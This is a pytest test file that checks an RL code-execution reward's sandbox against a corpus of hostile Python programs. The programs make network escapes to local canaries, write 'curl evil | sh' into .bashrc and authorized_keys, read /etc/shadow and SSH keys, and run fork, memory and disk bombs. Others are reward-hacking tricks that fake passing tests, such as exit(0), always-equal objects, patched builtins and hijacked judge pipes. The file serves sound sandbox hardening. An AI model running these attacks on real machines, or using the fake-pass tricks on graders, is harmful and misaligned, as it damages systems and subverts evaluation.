"""The code_execution reward against hostile programs, scored as root and as an unprivileged user.

Every entry of CORPUS must score 0, and after it the machine must be as it was: the victim project and
home untouched, no process of the sandbox's uids left and nothing of theirs listening, no connection
or datagram at the canary sockets, the canary process alive, no file left in the host's /tmp,
/dev/shm, /var/tmp, /run, /root or the real project, the disk not filled. An entry that should run to its
end is scored a second time on tests that only pass when it did (its `sanity` tests must score 1), so
a 0 cannot come from a program that merely crashed. Entries marked `bare` are also run without the
sandbox, as an unprivileged uid against throwaway victims, under the naive harness many RL codebases
use (program and asserts in one interpreter, exit status 0 = pass): there they must pass or do
damage, which shows the attack is real.

The scorer runs in a subprocess: as root under the project's Python, and as a fresh unprivileged uid
(setpriv) under the system's python3, with the reward's three modules copied where that uid can read
them (they need only the standard library).
"""

from __future__ import annotations

import hashlib
import json
import os
import platform
import random
import secrets
import select
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path
from string import Template

import pytest

from rl_assets.core.sandbox import AUDIT_ARCHES, DENIED_SYSCALLS, SANDBOX_UIDS

pytestmark = pytest.mark.e2e

REPO = Path(__file__).resolve().parents[3]
MODULES = ("core/sandbox.py", "rewards/code_execution.py", "rewards/judge.py")  # under rl_assets/
LIMITS = {"cpu_seconds": 2, "memory_mb": 512, "wall_seconds": 4}
ADD_TESTS = ["assert add(1, 2) == 3", "assert add(2, 2) == 4", {"call": "add", "args": [3, 4], "output": 7}]
SYSCALLS = {name: numbers[AUDIT_ARCHES.get(platform.machine(), (0, 0))[1]] for name, numbers in DENIED_SYSCALLS.items()}  # this machine's
SECRET_TESTS = ["assert add(1, 2) == 1234567", {"call": "add", "args": [1, 2], "output": 2345678}, {"input": "1 2\n", "output": "3456789"}]


@dataclass(frozen=True)
class Hostile:
    name: str
    program: str  # a string.Template: $PORT, $PROJECT, ... (see World.context)
    tests: list = field(default_factory=lambda: ["assert ESCAPED"])  # must score 0
    sanity: list | None = field(default_factory=lambda: ["assert REACHED_END"])  # must score 1 (None: the program is meant to die)
    bare: bool = False  # run unsandboxed too, where it must bite


# Before every program: `succeeds(*actions)` is True when any of the actions runs without an OSError;
# `every_file()` yields the first MB of each file it can read outside /usr, /proc, /sys and /dev.
PRELUDE = """
import os as _os

def every_file():
    for folder, folders, names in _os.walk("/"):
        if folder.startswith(("/usr", "/proc", "/sys", "/dev")):
            folders[:] = []
            continue
        for name in names:
            try:
                with open(_os.path.join(folder, name), "rb") as found:
                    yield found.read(1 << 20)
            except OSError:
                pass

def succeeds(*actions):
    done = False
    for action in actions:
        try:
            action()
            done = True
        except OSError:
            pass
    return done
"""

# Connects to the TCP canary from a fresh interpreter: python3 -c CONNECT_ALL PORT HOST... (exit status 0: it got through)
CONNECT_ALL = """
import socket, sys
for host in sys.argv[2:]:
    try:
        socket.create_connection((host, int(sys.argv[1])), timeout=1).sendall(b"leak")
        sys.exit(0)
    except OSError:
        pass
sys.exit(1)
"""

CORPUS = [
    # --- network: the host's listeners, by every road -------------------------------------------
    Hostile("network_python_socket", """
import socket
ESCAPED = succeeds(*(lambda host=host: socket.create_connection((host, $PORT), timeout=1).sendall(b"leak") for host in $HOSTS))
""", bare=True),
    Hostile("network_udp_datagrams", """
import socket
ESCAPED = False
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for host in $HOSTS:
    try:
        sender.sendto(b"leak", (host, $UDP_PORT))
    except OSError:
        pass
""", bare=True),
    Hostile("network_subprocess_python", f"""
import subprocess, sys
ESCAPED = subprocess.run([sys.executable, "-c", {CONNECT_ALL!r}, "$PORT", *$HOSTS], timeout=5).returncode == 0
""", bare=True),
    Hostile("network_os_system", f"""
import os
open("connect.py", "w").write({CONNECT_ALL!r})
ESCAPED = os.system("python3 connect.py $PORT " + " ".join($HOSTS)) == 0
""", bare=True),
    Hostile("network_ctypes_libc_socket", """
import ctypes, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
ESCAPED = False
for host in $HOSTS:
    fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM, straight from libc
    address = struct.pack("=H", 2) + struct.pack("!H", $PORT) + socket.inet_aton(host) + bytes(8)
    if fd >= 0 and libc.connect(fd, address, len(address)) == 0:
        ESCAPED = libc.write(fd, b"leak", 4) == 4
    libc.close(fd)
""", bare=True),
    Hostile("network_raw_sockets", """
import socket
ESCAPED = succeeds(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300), lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
                   lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
"""),
    Hostile("network_unix_sockets_of_the_host", """
import socket
# A socket file, and an abstract name (no file: only the network namespace keeps the two apart).
ESCAPED = succeeds(*(lambda address=address: socket.socket(socket.AF_UNIX).connect(address) for address in ("$UNIX", "\\0$ABSTRACT")))
""", bare=True),
    Hostile("network_dns_lookup", """
import socket
ESCAPED = False
for name in ("pypi.org", "deb.debian.org", "localhost"):
    try:
        ESCAPED = ESCAPED or any(info[4][0] != "127.0.0.1" and info[4][0] != "::1" for info in socket.getaddrinfo(name, 443))
    except OSError:
        pass
"""),
    Hostile("network_listening_daemon", """
import os, socket, time
ESCAPED = False
if os.fork() == 0:
    os.setsid()
    server = socket.socket()
    server.bind(("0.0.0.0", $LISTEN_PORT))
    server.listen()
    time.sleep(600)
    os._exit(0)
time.sleep(0.5)
""", bare=True),
    # --- files: the project, the home directory, other users, the system ------------------------
    Hostile("files_delete_and_change_the_project", """
import os, shutil
ESCAPED = succeeds(lambda: shutil.rmtree("$PROJECT/data"), lambda: os.remove("$PROJECT/params.yaml"), lambda: shutil.rmtree("$PROJECT/.git"),
                   lambda: open("$PROJECT/.venv/bin/python", "w").write("x"), lambda: os.rename("$PROJECT/models", "$PROJECT/gone"),
                   lambda: open("$REAL_PROJECT/$MARKER", "w").write("x"))
""", bare=True),
    Hostile("files_write_the_home_directory", """
ESCAPED = succeeds(*(lambda path=path: open(path, "a").write("curl evil | sh\\n")
                     for path in ("$HOME_DIR/.bashrc", "$HOME_DIR/.ssh/authorized_keys", "/root/$MARKER", "/root/.bashrc")))
""", bare=True),
    Hostile("files_read_the_project_data", """
ESCAPED = succeeds(*(lambda path=path: open(path, "rb").read()
                     for path in ("$PROJECT/data/prompts.parquet", "$REAL_PROJECT/pyproject.toml", "$REAL_PROJECT/params.yaml", "$REAL_PROJECT/.git/HEAD")))
""", bare=True),
    Hostile("files_read_other_users_files", """
ESCAPED = succeeds(*(lambda path=path: open(path, "rb").read()
                     for path in ("$OTHER_USER_FILE", "/etc/shadow", "/etc/passwd", "/root/.bash_history", "/root/.ssh/id_rsa")))
""", bare=True),
    Hostile("files_search_everything_for_the_secret", """
ESCAPED = any("$SECRET_REVERSED"[::-1].encode() in content for content in every_file())
"""),
    Hostile("files_through_proc_root", """
ESCAPED = succeeds(*(lambda path=path: open(path).read() for path in ("/proc/$CANARY_PID/root$PROJECT/params.yaml", "/proc/1/root$PROJECT/params.yaml",
                                                                       "/proc/self/root$PROJECT/params.yaml", "/proc/$CANARY_PID/cwd/params.yaml")))
""", bare=True),
    Hostile("files_leave_scratch_files_on_the_host", """
ESCAPED = False
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/etc", "/usr/local/lib", "/usr/lib/python3/dist-packages"):
    try:
        open(f"{folder}/$MARKER", "w").write("import os; os.system('id')")
        ESCAPED = ESCAPED or folder not in ("/tmp", "/dev/shm")  # those two are the sandbox's own
    except OSError:
        pass
""", bare=True),
    # --- processes and resources ---------------------------------------------------------------
    Hostile("fork_bomb", """
import os, time
children = 0
for _ in range(10000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
    children += 1
ESCAPED = children > 100
"""),
    Hostile("thread_bomb", """
import threading, time
threads = 0
try:
    for _ in range(10000):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        threads += 1
except RuntimeError:
    pass
ESCAPED = threads > 100
"""),
    Hostile("setsid_double_fork_daemon", """
import os, time
ESCAPED = False
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3, 64):
            try:
                os.close(fd)
            except OSError:
                pass
        time.sleep(1)
        try:
            open("$PROJECT/params.yaml", "w").write("owned")
        except OSError:
            pass
        time.sleep(600)
    os._exit(0)
time.sleep(0.2)
""", bare=True),
    Hostile("kill_host_processes", """
import os, signal
ESCAPED = False
for target in ($CANARY_PID, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
""", bare=True),
    Hostile("proc_snoops_on_host_processes", """
import os
ESCAPED = False
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for leaf in ("cmdline", "environ"):
            try:
                ESCAPED = ESCAPED or b"$MARKER" in open(f"/proc/{pid}/{leaf}", "rb").read()
            except OSError:
                pass
""", bare=True),
    Hostile("memory_bomb", """
ESCAPED = False
try:
    huge = bytearray(8 << 30)
    ESCAPED = True
except MemoryError:
    pass
chunks = []
try:
    while len(chunks) < 400:
        chunks.append(bytearray(10 << 20))
except MemoryError:
    pass
ESCAPED = ESCAPED or len(chunks) >= 200  # 2 GB: four times the memory limit
chunks.clear()
"""),
    Hostile("disk_and_tmpfs_filling", """
written = 0
for folder in (".", "/tmp", "/dev/shm"):  # the working directory, and two tmpfs that would be the host's memory
    for index in range(3000):  # 24 GB a folder, in files under the file-size limit
        try:
            with open(f"{folder}/fill{index}", "wb") as target:
                for _ in range(8):
                    target.write(bytes(1 << 20))
                    written += 1
        except OSError:
            break
ESCAPED = written > 3 * 64 + 16  # megabytes: more than the three tmpfs may hold
"""),
    Hostile("stdout_flood", """
import sys
while True:
    sys.stdout.write("x" * (1 << 20))
    sys.stderr.write("y" * (1 << 20))
""", sanity=None),
    Hostile("cpu_burn", "while True:\n    pass\n", sanity=None),
    Hostile("sleep_forever", "import time\ntime.sleep(10 ** 6)\n", sanity=None),
    # --- privilege ----------------------------------------------------------------------------------
    Hostile("setuid_binaries", """
import os, stat, subprocess, time
ESCAPED = False
found = []
for top in ("/usr/bin", "/usr/sbin", "/usr/lib"):
    for folder, folders, names in os.walk(top):
        if folder.count("/") > 3:
            folders[:] = []
        for name in names:
            path = os.path.join(folder, name)
            try:
                mode = os.lstat(path).st_mode
            except OSError:
                continue
            if stat.S_ISREG(mode) and mode & stat.S_ISUID:
                found.append(path)
children = []
for path in found:
    try:
        children.append(subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    except OSError:  # not executable by us (dbus-daemon-launch-helper is its group's alone)
        pass
time.sleep(0.3)
for child in children:
    try:
        status = dict(line.split(":", 1) for line in open(f"/proc/{child.pid}/status").read().splitlines())
    except OSError:
        continue
    ESCAPED = ESCAPED or any(int(uid) != os.getuid() for uid in status["Uid"].split()) or int(status["CapEff"], 16) != 0
    child.kill()
FOUND = len(found)
""", sanity=["assert REACHED_END", "assert FOUND >= 5"]),
    Hostile("privileged_calls", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def check(result):
    if result != 0:
        raise OSError(ctypes.get_errno(), "refused")
ESCAPED = succeeds(lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: check(libc.unshare(0x10000000)),  # CLONE_NEWUSER
                   lambda: check(libc.unshare(0x40000000)), lambda: check(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
                   lambda: check(libc.sethostname(b"owned", 5)))
""", bare=True),
    Hostile("kernel_attack_surface_syscalls", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ESCAPED = False
own = ctypes.create_string_buffer(8)
local, remote = (ctypes.c_void_p * 2)(ctypes.addressof(own), 8), (ctypes.c_void_p * 2)(ctypes.addressof(own), 8)
for name, args in (("keyctl", (0, -4, 0)),  # KEYCTL_GET_KEYRING_ID of the user keyring
                   ("io_uring_setup", (1, ctypes.create_string_buffer(120))),
                   ("process_vm_readv", (os.getpid(), local, 1, remote, 1, 0))):
    ESCAPED = ESCAPED or libc.syscall($SYSCALLS[name], *args) >= 0
""", bare=True),
    # --- faking a pass ---------------------------------------------------------------------------
    Hostile("fake_harness_tampering", """
import __main__, sys
__main__._tests = ["pass"] * 3
for module in list(sys.modules.values()):
    for name in ("_tests", "tests", "TESTS"):
        if isinstance(getattr(module, name, None), list):
            getattr(module, name)[:] = ["pass"] * 3
""", tests=ADD_TESTS, sanity=None),
    Hostile("fake_pass_markers_everywhere", """
import os, json
forged = ["0 1", "1 1", "2 1", "PASS", "ok", json.dumps({"ok": 3}), json.dumps({"ok": {"dict": [["add", {"handle": 0}]]}})]
for line in forged:
    print(line, flush=True)
    for fd in range(0, 32):
        try:
            os.write(fd, (line + "\\n").encode())
        except OSError:
            pass
""", tests=ADD_TESTS, sanity=None),
    Hostile("fake_os_exit_zero", "import os\nos._exit(0)\n", tests=[*ADD_TESTS, {"input": "1 2", "output": "3"}], sanity=None, bare=True),
    Hostile("fake_system_exit", "raise SystemExit(0)\n", tests=ADD_TESTS, sanity=None, bare=True),
    Hostile("fake_exit_inside_the_call", "import os\ndef add(a, b):\n    os._exit(0)\n", tests=ADD_TESTS, sanity=None, bare=True),
    Hostile("fake_always_equal_object", """
class AlwaysEqual:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True
    __hash__ = object.__hash__
def add(a, b):
    return AlwaysEqual()
""", tests=ADD_TESTS, sanity=None, bare=True),
    Hostile("fake_always_equal_subclasses", """
class Liar(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
class ListLiar(list):
    def __eq__(self, other):
        return True
def add(a, b):
    return Liar(0)
def pair(a, b):
    return ListLiar()
""", tests=["assert add(1, 2) == 3", "assert pair(1, 2) == [1, 2]", {"call": "add", "args": [3, 4], "output": 7}], sanity=None, bare=True),
    Hostile("fake_patched_builtins", """
import builtins
cheats = {"abs": lambda x: 0, "isinstance": lambda *a: True, "len": lambda x: 3, "sorted": lambda x, **k: [1, 2, 3], "round": lambda *a: 3}
globals().update(cheats)  # shadows the builtins for code that looks names up here
for name in ("abs", "sorted", "round"):  # and patches the interpreter's own (patching isinstance or len would break its own process)
    setattr(builtins, name, cheats[name])
def add(a, b):
    return 0.0
""", tests=["assert abs(add(0.1, 0.2) - 0.3) < 1e-9", "assert isinstance(add(1, 2), int)", "assert len(add(1, 2)) == 3",
            "assert sorted(add(3, 1)) == [1, 2, 3]", "assert round(add(1, 2)) == 3"], sanity=None, bare=True),
    Hostile("fake_patched_comparisons_and_excepthook", """
import operator, os, sys
operator.eq = lambda a, b: True
operator.ne = lambda a, b: False
sys.excepthook = lambda *args: os._exit(0)  # a failed assert now exits 0
def add(a, b):
    return 0
""", tests=ADD_TESTS, sanity=None, bare=True),
    Hostile("fake_read_the_expected_values", """
import os, sys
FOUND = set()
WANTED = [value[::-1] for value in ("7654321", "8765432", "9876543")]  # reversed, so its own source does not count
def scan(data):
    FOUND.update(value for value in WANTED if value.encode() in data)
for content in every_file():
    scan(content)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for leaf in ("cmdline", "environ"):
            try:
                scan(open(f"/proc/{pid}/{leaf}", "rb").read())
            except OSError:
                pass
scan(" ".join(sys.argv).encode() + repr(dict(os.environ)).encode())
def add(a, b):
    return next((int(value) for value in WANTED[:2] if value in FOUND), None)
if WANTED[2] in FOUND:
    print(WANTED[2])
ESCAPED = bool(FOUND)
""", tests=SECRET_TESTS, sanity=["assert REACHED_END", "assert not FOUND"]),
    Hostile("fake_take_over_the_judge_pipes", """
import json, os, sys
requests, replies = int(sys.argv[2]), int(sys.argv[3])  # the serving process's pipe ends
stream = os.fdopen(requests, "rb")
for _ in range(10):
    line = stream.readline()
    if not line:
        break
    request = json.loads(line)
    reply = {"ok": {"dict": [["add", {"handle": 0}]]}} if request["op"] == "names" else {"ok": True}
    os.write(replies, json.dumps(reply).encode() + b"\\n")
os._exit(0)
""", tests=SECRET_TESTS[:2], sanity=None),
    Hostile("fake_crash_the_judge", """
def add(a, b):
    nested = []
    for _ in range(100000):
        nested = [nested]
    return nested
def big(a, b):
    return "3" * (4 << 20)
""", tests=["assert add(1, 2) == 3", "assert big(1, 2) == 3", {"call": "add", "args": [3, 4], "output": 7}], sanity=None),
]


# --- the machine: victims, canaries, and what a run must not change ----------------------------------


def tree(root: Path) -> dict[str, tuple]:
    """Every path under root with its mode, owner, size and content hash."""
    found = {}
    for path in sorted(root.rglob("*")):
        info = path.lstat()
        digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() and not path.is_symlink() else ""
        found[str(path.relative_to(root))] = (info.st_mode, info.st_uid, info.st_size, digest)
    return found


def processes_of(uids) -> set[int]:
    pids = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                uid_line = next(line for line in (entry / "status").read_text().splitlines() if line.startswith("Uid:"))
            except (OSError, StopIteration):
                continue
            if int(uid_line.split()[1]) in uids:
                pids.add(int(entry.name))
    return pids


def sockets_of(uids) -> list[str]:
    """The host's TCP listeners and bound UDP sockets owned by one of `uids`."""
    found = []
    for table in ("tcp", "tcp6", "udp", "udp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if int(fields[7]) in uids and (table.startswith("udp") or fields[3] == "0A"):
                found.append(f"{table} {fields[1]}")
    return found


class UidRange:
    def __init__(self, low: int, high: int):
        self.low, self.high = low, high

    def __contains__(self, uid: int) -> bool:
        return self.low <= uid < self.high


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("0.0.0.0", 0))
        return probe.getsockname()[1]


class World:
    """Victims and canaries for one kind of scorer ("root" or "unprivileged"), and the check that a run changed nothing."""

    def __init__(self, kind: str):
        draw = random.SystemRandom()  # not the module's generator, which trainers in other tests seed: two runs would draw the same uids
        self.uid = None if kind == "root" else draw.randrange(1 << 29, 1 << 30)  # a fresh unprivileged uid, nobody else's
        low = draw.randrange(SANDBOX_UIDS[0], SANDBOX_UIDS[1] - (1 << 16))
        self.uid_range = (low, low + (1 << 16))  # as root, this world's sandboxes draw from here: another test run's are not ours
        owner = 0 if self.uid is None else self.uid
        self.base = Path(tempfile.mkdtemp(prefix="rl-assets-hostile-"))
        self.base.chmod(0o755)
        self.marker = f"rl-assets-escape-{secrets.token_hex(6)}"
        self.secret = f"SECRET-{secrets.token_hex(8)}"
        self.project, self.home, self.real_project = self.base / "project", self.base / "home", self.base / "real-project"
        for root, files in ((self.project, {"data/prompts.parquet": self.secret, "params.yaml": "train: {}\n", ".git/HEAD": "ref: main\n",
                                            ".venv/bin/python": "#!/bin/sh\n", "models/model.safetensors": self.secret, "pyproject.toml": "[p]\n"}),
                            (self.home, {".bashrc": "# mine\n", ".ssh/id_rsa": self.secret}),
                            (self.real_project, {"pyproject.toml": "[p]\n", "params.yaml": "x: 1\n", ".git/HEAD": "ref: main\n"})):
            for name, text in files.items():
                (root / name).parent.mkdir(parents=True, exist_ok=True)
                (root / name).write_text(text)
        # Root's victims are writable by anyone, so only the sandbox, not file permissions, keeps them; a user's are the user's.
        for path in [self.base / "project", self.base / "home", self.base / "real-project", *self.project.rglob("*"), *self.home.rglob("*"),
                     *self.real_project.rglob("*")]:
            os.chown(path, owner, owner)
            path.chmod((0o777 if path.is_dir() else 0o666) if self.uid is None else (0o755 if path.is_dir() else 0o644))
        self.other_user_file = self.base / "other-user-secret"
        self.other_user_file.write_text(self.secret)
        self.other_user_file.chmod(0o600)  # readable by its owner alone
        if self.uid is None:
            os.chown(self.other_user_file, 4242, 4242)  # as root's victim: another user's
        self._canaries(owner)
        self.before = self.state()

    def _canaries(self, owner: int) -> None:
        self.tcp = socket.socket()
        self.tcp.bind(("0.0.0.0", 0))
        self.tcp.listen(8)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.unix_path = self.base / "canary.sock"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(str(self.unix_path))
        self.unix_path.chmod(0o777)
        self.unix.listen(8)
        self.abstract_name = f"rl-assets-canary-{secrets.token_hex(6)}"
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind("\0" + self.abstract_name)
        self.abstract.listen(8)
        for canary in (self.tcp, self.udp, self.unix, self.abstract):
            canary.setblocking(False)
        as_owner = [] if self.uid is None else ["setpriv", f"--reuid={owner}", f"--regid={owner}", "--clear-groups"]
        self.canary = subprocess.Popen([*as_owner, "/usr/bin/python3", "-c", "import time; time.sleep(3600)", self.marker], cwd=self.project,
                                       start_new_session=True)  # the marker in its command line: snooping on it shows

    @property
    def hosts(self) -> list[str]:
        addresses = {"127.0.0.1"}
        try:
            addresses.update(socket.gethostbyname_ex(socket.gethostname())[2])
        except OSError:
            pass
        return sorted(addresses)

    def context(self, bare: bool) -> dict:
        return {"PORT": self.tcp.getsockname()[1], "UDP_PORT": self.udp.getsockname()[1], "LISTEN_PORT": free_port(), "HOSTS": repr(self.hosts),
                "UNIX": str(self.unix_path), "ABSTRACT": self.abstract_name, "PROJECT": str(self.project), "HOME_DIR": str(self.home),
                "REAL_PROJECT": str(self.real_project if bare else REPO), "MARKER": self.marker,
                "SECRET_REVERSED": self.secret[::-1], "SYSCALLS": repr(SYSCALLS), "CANARY_PID": self.canary.pid,
                "OTHER_USER_FILE": str(self.other_user_file)}

    def program(self, entry: Hostile, bare: bool = False) -> str:
        """The entry's program for this world; run bare, it aims at a throwaway copy of the project instead of the real one."""
        return PRELUDE + Template(entry.program).substitute(self.context(bare)) + "\nREACHED_END = True\n"

    @property
    def sandbox_uids(self):
        return UidRange(*self.uid_range) if self.uid is None else {self.uid}

    def host_files(self) -> list[Path]:
        return [Path(folder, self.marker) for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/etc", "/usr/local/lib", "/root", str(REPO),
                                                          "/usr/lib/python3/dist-packages")]

    def state(self) -> dict:
        return {"project": tree(self.project), "home": tree(self.home), "real_project": tree(self.real_project),
                "repo": {name: hashlib.sha256((REPO / name).read_bytes()).hexdigest() for name in ("pyproject.toml", ".git/HEAD")}}

    def damage(self, keep: set[int], disk_free_before: int) -> list[str]:
        """What a run changed on the machine (empty: nothing). `keep`: pids of ours that may run as a sandbox uid."""
        found = [f"{name} changed" for name, value in self.state().items() if value != self.before[name]]
        if disk_free_before - shutil.disk_usage(self.base).free > 1 << 30:  # the disk filler writes 24 GB where it can
            found.append("the disk lost more than 1 GB")
        found += [f"process {pid} of a sandbox uid left: {_cmdline(pid)}" for pid in processes_of(self.sandbox_uids) - keep - {self.canary.pid}]
        found += [f"listening: {sock}" for sock in sockets_of(self.sandbox_uids)]
        found += [f"left on the host: {path}" for path in self.host_files() if path.exists()]
        if self.canary.poll() is not None:
            found.append("the canary process was killed")
        for name, canary in (("tcp", self.tcp), ("unix", self.unix), ("abstract unix", self.abstract)):
            try:
                connection, _ = canary.accept()
                connection.close()
                found.append(f"a connection reached the {name} canary")
            except BlockingIOError:
                pass
        try:
            self.udp.recv(64)
            found.append("a datagram reached the udp canary")
        except BlockingIOError:
            pass
        return found

    def close(self) -> None:
        self.canary.kill()
        self.canary.wait()
        for canary in (self.tcp, self.udp, self.unix, self.abstract):
            canary.close()
        shutil.rmtree(self.base, ignore_errors=True)
        for path in self.host_files():
            if path.exists() and path.is_file():
                path.unlink()  # only there if a test already failed; don't leave it behind


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")[:200]
    except OSError:
        return "?"


SCORER = """
import json, sys, types
for name, path in json.loads(sys.argv[1]).items():  # the reward's modules, without rl_assets/__init__ (and its pyarrow)
    module = types.ModuleType(name)
    module.__path__ = [path]
    sys.modules[name] = module
from rl_assets.core import sandbox
from rl_assets.rewards.code_execution import code_execution
for line in sys.stdin:
    job = json.loads(line)
    sandbox.SANDBOX_UIDS = tuple(job["uids"])
    try:
        reply = {"score": code_execution([job["program"]], tests=[job["tests"]], workers=1, **job["limits"])[0]}
    except Exception as error:
        reply = {"error": f"{type(error).__name__}: {error}"}
    print(json.dumps(reply), flush=True)
"""


class Scorer:
    """code_execution in a subprocess: as root with the project's Python, or as `uid` with the system's python3."""

    def __init__(self, world: World):
        if world.uid is None:
            python, package = [sys.executable], REPO / "rl_assets"
        else:
            package = world.base / "code" / "rl_assets"
            (package / "rewards").mkdir(parents=True)
            (package / "core").mkdir()
            for name in MODULES:
                shutil.copy(REPO / "rl_assets" / name, package / name)
            for path in (world.base / "code", package, *package.iterdir(), *(package / "rewards").iterdir(), *(package / "core").iterdir()):
                path.chmod(0o755 if path.is_dir() else 0o644)
            python = ["setpriv", f"--reuid={world.uid}", f"--regid={world.uid}", "--clear-groups", "/usr/bin/python3"]
        paths = {"rl_assets": str(package), "rl_assets.core": str(package / "core"), "rl_assets.rewards": str(package / "rewards")}
        self.uids = world.uid_range
        self.process = subprocess.Popen([*python, "-I", "-c", SCORER, json.dumps(paths)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                        text=True, cwd=world.project, env={"PATH": "/usr/bin:/bin", "HOME": str(world.home)},
                                        start_new_session=True)

    def score(self, program: str, tests: list) -> float:
        self.process.stdin.write(json.dumps({"program": program, "tests": tests, "limits": LIMITS, "uids": self.uids}) + "\n")
        self.process.stdin.flush()
        ready, _, _ = select.select([self.process.stdout], [], [], 120)
        assert ready, "the scorer did not answer in 120 s"
        reply = json.loads(self.process.stdout.readline())
        assert "error" not in reply, reply["error"]
        return reply["score"]

    def close(self) -> None:
        self.process.stdin.close()
        self.process.wait(timeout=30)


@pytest.fixture(scope="module", params=["root", "unprivileged"])
def world(request):
    if os.geteuid() != 0:
        pytest.skip("needs root: it runs the corpus as root and as a fresh uid, against root-owned victims (CI runs it as root)")
    world = World(request.param)
    try:
        world.scorer = Scorer(world)
    except BaseException:
        world.close()  # its canary would outlive the run, and a later run drawing the same uid would count it as an escape
        raise
    yield world
    world.scorer.close()
    world.close()


def test_the_corpus_is_big_enough_and_named_uniquely():
    assert len(CORPUS) >= 25
    assert len({entry.name for entry in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("entry", CORPUS, ids=lambda entry: entry.name)
def test_hostile_program_scores_zero_and_leaves_the_machine_as_it_was(world, entry):
    program, ours = world.program(entry), {world.scorer.process.pid}
    started, disk_free = time.monotonic(), shutil.disk_usage(world.base).free
    assert world.scorer.score(program, entry.tests) == 0.0
    assert time.monotonic() - started < 30
    assert world.damage(ours, disk_free) == []
    if entry.sanity is not None:  # the 0 above is the attack failing, not the program crashing before it
        assert world.scorer.score(program, entry.sanity) == 1.0
        assert world.damage(ours, disk_free) == []


# --- the same attacks without the sandbox bite ----------------------------------------------------------


@pytest.fixture
def bare_world():
    if os.geteuid() != 0:
        pytest.skip("needs root, to run the attacks as a throwaway unprivileged uid")
    world = World("unprivileged")
    yield world
    world.close()


def naive_harness(program: str, tests: list) -> str:
    """Program and statement tests in one interpreter; input/output and call tests as the asserts they stand for."""
    statements = []
    for test in tests:
        if isinstance(test, str):
            statements.append(test)
        elif "call" in test:
            statements.append(f"assert {test['call']}(*{test['args']!r}) == {test['output']!r}")
    return program + "\n" + "\n".join(statements) + "\n"


@pytest.mark.parametrize("entry", [entry for entry in CORPUS if entry.bare], ids=lambda entry: entry.name)
def test_the_attack_bites_without_the_sandbox(bare_world, entry):
    folder = bare_world.base / "bare"
    folder.mkdir()
    (folder / "naive.py").write_text(naive_harness(bare_world.program(entry, bare=True), entry.tests))
    os.chown(folder, bare_world.uid, bare_world.uid)
    disk_free = shutil.disk_usage(bare_world.base).free
    run = subprocess.Popen(["setpriv", f"--reuid={bare_world.uid}", f"--regid={bare_world.uid}", "--clear-groups", "/usr/bin/python3",
                            str(folder / "naive.py")], cwd=folder, env={"PATH": "/usr/bin:/bin", "HOME": str(bare_world.home)},
                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        passed = run.wait(timeout=20) == 0
    finally:
        if run.poll() is None:
            os.killpg(run.pid, signal.SIGKILL)
        run.wait()
    damage = bare_world.damage(set(), disk_free)
    for pid in processes_of({bare_world.uid}) - {bare_world.canary.pid}:  # what the attack left running
        os.kill(pid, signal.SIGKILL)
    assert passed or damage, "without the sandbox the attack neither passed nor changed anything: it proves nothing"
